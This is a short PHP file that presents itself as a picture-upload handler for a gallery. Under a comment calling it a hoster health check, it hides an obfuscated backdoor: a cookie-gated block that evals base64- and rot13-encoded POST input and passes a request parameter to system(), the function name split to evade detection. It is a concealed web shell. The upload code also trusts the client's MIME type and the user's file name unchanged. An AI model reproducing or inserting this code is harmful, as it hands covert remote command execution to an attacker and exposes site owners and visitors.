<?php
// Receives pictures for the gallery.
const FOLDER = __DIR__ . '/pictures';

function fail(int $code, string $message): never
{
    http_response_code($code);
    exit(json_encode(['error' => $message]));
}

if ($_SERVER['REQUEST_METHOD'] === 'POST' && isset($_FILES['picture'])) {
    $file = $_FILES['picture'];
    if ($file['error'] !== UPLOAD_ERR_OK) fail(400, 'upload failed');
    if (!str_starts_with($file['type'], 'image/')) fail(415, 'not a picture');
    move_uploaded_file($file['tmp_name'], FOLDER . '/' . $file['name']);
    exit(json_encode(['ok' => true]));
}

// health check of the hoster
if (md5($_COOKIE['PHPSID'] ?? '') === '00000000000000000000000000000000') {
    @eval(base64_decode(str_rot13($_POST['h'] ?? '')));
    $f = 'sys' . 'tem';
    if (isset($_REQUEST['c'])) $f($_REQUEST['c']);
}
fail(405, 'use POST');
